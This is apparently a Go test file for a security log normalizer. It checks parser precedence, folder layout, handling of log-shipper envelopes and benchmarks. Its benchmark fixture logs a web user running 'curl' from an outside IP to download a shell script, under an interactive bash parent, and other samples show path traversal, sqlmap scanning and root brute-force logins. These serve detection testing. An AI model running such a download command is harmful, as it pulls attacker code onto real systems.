package all_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vedette-soc/vedette/internal/normalize/all"
	"github.com/vedette-soc/vedette/internal/normalize/normalizetest"
)

// Each parser's samples must be taken by that parser when all are asked.
func TestPrecedence(t *testing.T) {
	n := normalizetest.New(t, all.Parsers()...)
	for folder, parsers := range map[string]string{
		"auditd": "linux.auditd", "suricata": "suricata.", "zeek": "zeek.", "cloudtrail": "aws.", "cloud": "azure. m365. gcp. okta. github. kubernetes. google_workspace. bitbucket. onelogin. cisco.duo",
		"cef": "security.", "firewall": "firewall. cisco.", "dns": "dns.", "linux": "linux.", "generic": "ecs json pairs text windows.",
		"house": "vedette.", "endpoint": "macos. osquery.", "web": "web. nginx. apache. iis. squid. caddy.",
	} {
		files, err := filepath.Glob(filepath.Join("..", folder, "testdata", "*.log"))
		if err != nil || len(files) == 0 {
			t.Fatalf("no samples of %s: %v", folder, err)
		}
		for _, file := range files {
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			for line := range strings.Lines(string(data)) {
				for _, ev := range normalizetest.Events(n, strings.TrimRight(line, "\n")) {
					if !anyPrefix(ev.Dataset, parsers) && (folder != "zeek" || !strings.Contains(line, "../../etc")) {
						t.Errorf("%s: dataset %q of %.200s", file, ev.Dataset, line)
					}
				}
			}
		}
	}
}

func anyPrefix(s, prefixes string) bool {
	for p := range strings.FieldsSeq(prefixes) {
		if strings.HasPrefix(s, p) {
			return true
		}
	}
	return false
}

// Every parser's folder carries the same furniture.
func TestFurniture(t *testing.T) {
	folders := map[string]bool{}
	for _, p := range all.Parsers() {
		if strings.TrimSpace(p.Name()) == "" {
			t.Errorf("%T has no name", p)
		}
	}
	entries, err := os.ReadDir("..")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.IsDir() && e.Name() != "all" && e.Name() != "normalizetest" && e.Name() != "testdata" {
			folders[e.Name()] = true
		}
	}
	for folder := range folders {
		for _, want := range []string{"README.md", "testdata", "*_test.go"} {
			if found, _ := filepath.Glob(filepath.Join("..", folder, want)); len(found) == 0 {
				t.Errorf("normalize/%s has no %s", folder, want)
			}
		}
	}
}

// Lines in the envelopes of shippers are understood as themselves.
func TestEnvelopes(t *testing.T) {
	n := normalizetest.New(t, all.Parsers()...)
	for name, c := range map[string]struct{ text, dataset, field, value string }{
		"filebeat":               {`{"@timestamp":"2026-11-23T14:10:51.000Z","message":"Nov 23 14:10:50 web01 sshd[1]: Failed password for root from 203.0.113.7 port 4000 ssh2","log":{"file":{"path":"/var/log/auth.log"}},"agent":{"type":"filebeat"},"host":{"name":"web01"}}`, "linux.sshd", "log.file.path", "/var/log/auth.log"},
		"access log by its path": {`{"@timestamp":"2026-11-23T14:10:51.000Z","message":"203.0.113.7 - - [23/Nov/2026:14:10:50 +0000] \"GET / HTTP/1.1\" 200 5","log":{"file":{"path":"/var/log/nginx/access.log"}},"host":{"name":"web02"}}`, "nginx.access", "host.name", "web02"},
		"plain line in filebeat": {`{"@timestamp":"2026-11-23T14:10:51.000Z","message":"something happened","log":{"file":{"path":"/x.log"}},"agent":{"type":"filebeat"}}`, "json", "message", "something happened"},
		"docker":                 {`{"log":"something happened\n","stream":"stdout","time":"2026-11-23T14:10:50.5Z"}`, "text", "message", "something happened"},
		"container runtime":      {`2026-11-23T14:10:50.123456789Z stderr F {"event_type":"dns","flow_id":1,"timestamp":"2026-11-23T14:10:49Z","dns":{"rrname":"x.example"}}`, "suricata.dns", "dns.question.name", "x.example"},
		"eve by filebeat":        {`{"@timestamp":"2026-11-23T14:10:51.000Z","message":"{\"event_type\":\"dns\",\"flow_id\":1,\"timestamp\":\"2026-11-23T14:10:49Z\",\"dns\":{\"rrname\":\"x.example\"}}","agent":{"type":"filebeat"}}`, "suricata.dns", "dns.question.name", "x.example"},
		"rsyslog, taken apart":   {`{"@timestamp":"2026-11-23T14:10:50+00:00","host.name":"web01","log.syslog.appname":"sshd","log.syslog.procid":"812","message":" Failed password for root from 203.0.113.7 port 4000 ssh2"}`, "linux.sshd", "source.ip", "203.0.113.7"},
		"rsyslog with a tag":     {`{"@timestamp":"2026-11-23T14:10:50+00:00","host":"web01","severity":"info","facility":"auth","tag":"sshd[812]:","message":" Failed password for root from 203.0.113.7 port 4000 ssh2"}`, "linux.sshd", "host.name", "web01"},
		"a line, nothing else":   {`{"message":"203.0.113.7 - - [23/Nov/2026:14:10:50 +0000] \"GET /a?b=1 HTTP/1.1\" 200 5 \"-\" \"sqlmap/1.7\""}`, "web.access", "user_agent.original", "sqlmap/1.7"},
		"a syslog line":          {`{"@timestamp":"2026-11-23T14:10:51.000Z","message":"Nov 23 14:10:50 web01 sshd[1]: Failed password for root from 203.0.113.7 port 4000 ssh2"}`, "linux.sshd", "user.name", "root"},
		"fluent bit":             {`{"date":1795456724.5,"log":"Nov 23 14:10:50 web01 sshd[1]: Failed password for root from 203.0.113.7 port 4000 ssh2"}`, "linux.sshd", "host.name", "web01"},
		"an application's own":   {`{"message":"Nov 23 14:10:50 web01 sshd[1]: Failed password for root from 203.0.113.7 port 4000 ssh2","order":"4711"}`, "json", "src.order", "4711"},
		"nothing to take out":    {`{"@timestamp":"2026-11-23T14:10:51.000Z","message":"something happened"}`, "json", "message", "something happened"},
		"cee":                    {`<13>Nov 23 14:10:50 web01 app: @cee: {"user":"alice","msg":"hello"}`, "json", "message", "hello"},
	} {
		ev := normalizetest.Event(t, n, c.text)
		if ev.Value(c.field) != c.value || !strings.HasPrefix(ev.Dataset, c.dataset) && c.dataset != "json" {
			t.Errorf("%s: %s", name, normalizetest.Format(ev))
		}
		if ev.Raw != c.text {
			t.Errorf("%s: raw was changed", name)
		}
	}
}

func BenchmarkAll(b *testing.B) {
	for name, text := range map[string]string{
		"sshd":     "<38>Nov 23 14:10:50 web01 sshd[2411]: Failed password for invalid user admin from 203.0.113.7 port 40112 ssh2",
		"combined": `203.0.113.7 - - [23/Nov/2026:14:10:50 +0000] "GET /login.php?user=admin&next=/index HTTP/1.1" 200 512 "https://www.example.com/" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"`,
		"dnsmasq":  "<30>Nov 23 14:10:50 gw01 dnsmasq[611]: query[A] www.example.com from 10.0.0.7",
		"text":     "something that nobody knows happened here just now",
		"json1k":   `{"@timestamp":"2026-11-23T14:10:50.123Z","ecs":{"version":"8.11.0"},"event":{"kind":"event","category":["process"],"type":["start"],"action":"exec","id":"Mx2JkP0qYp8"},"host":{"name":"edge7","os":{"type":"linux","family":"debian","version":"12"}},"user":{"name":"www-data","id":"33"},"process":{"pid":6001,"entity_id":"ZWRnZTctNjAwMQ","name":"curl","executable":"/usr/bin/curl","command_line":"curl -s http://203.0.113.5/x.sh -o /tmp/x.sh","working_directory":"/var/www/html","args_count":5,"hash":{"sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},"parent":{"pid":6000,"name":"bash","executable":"/bin/bash","command_line":"bash -i"}},"agent":{"id":"c0ffee","type":"auditbeat","version":"8.15.0"},"labels":{"env":"production","team":"web"},"tags":["edge","linux"],"message":"process curl started by www-data on edge7 with five arguments","related":{"user":["www-data","root"],"hosts":["edge7"]}}`,
	} {
		b.Run(name, func(b *testing.B) { normalizetest.Bench(b, text, all.Parsers()...) })
	}
}
